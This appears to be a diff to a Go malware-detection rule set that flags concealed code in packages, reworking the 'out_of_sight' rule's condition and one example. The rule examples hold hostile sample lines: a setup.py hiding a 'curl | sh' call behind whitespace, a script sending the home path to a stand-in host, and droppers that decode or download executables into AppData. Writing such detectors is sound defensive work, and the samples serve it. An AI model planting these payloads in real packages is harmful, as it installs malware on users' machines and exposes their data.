@@ -4,7 +4,6 @@ import b "taisei/detect/behaviour"
 
 // concealment: what honest code has no reason to hide is hidden.
 func concealment() []Rule {
-	acts := []string{b.Code, b.Process, b.Network}
 	return []Rule{
 		{
 			ID: "hidden_address", Severity: High,
@@ -24,7 +23,7 @@ func concealment() []Rule {
 		},
 		{
 			ID: "out_of_sight", Severity: Critical,
-			When: []Condition{{Sinks: acts, Hidden: Yes}},
+			When: []Condition{{Slots: []string{"aside"}}},
 			Examples: []Example{
 				Python("behind blanks", "from setuptools import setup"+repeat(" ", 300)+";import os;os.system('curl http://203.0.113.9/x | sh')\nsetup(name='example')\n"),
 				Package("behind blanks", `"main":"i.js"`, map[string]string{"i.js": "exports.a=1;" + repeat(" ", 300) + "fetch('https://c.example/?'+process.env.HOME)"}),
@@ -43,7 +42,7 @@ func concealment() []Rule {
 			Graver: []Condition{{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Blob}, Target: Aside}, {Name: Server}},
 			Examples: []Example{
 				Python("a script decoded into a folder of temporary files", "import base64, os\nfrom setuptools import setup\nopen(os.path.join(os.environ['APPDATA'], 'u.vbs'), 'wb').write(base64.b64decode('V1NjcmlwdC5FY2hvIDEgJyBqdXN0IGFuIGV4YW1wbGU='))\nsetup(name='example')\n"),
-				Module("a program fetched from a drop", "import requests, os\nopen(os.getenv('APPDATA')+'\\\\u.exe','wb').write(requests.get('https://cdn.discordapp.com/u.exe').content)\n"),
+				Module("a program fetched from a drop", "import requests, os\nopen(os.getenv('LOCALAPPDATA')+'\\\\Temp\\\\u.exe','wb').write(requests.get('https://cdn.discordapp.com/u.exe').content)\n"),
 			},
 			Neighbours: []Example{
 				Module("an image decoded into a folder", "import base64, os\nopen(os.path.join(os.environ['APPDATA'], 'u.png'), 'wb').write(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'))\n"),
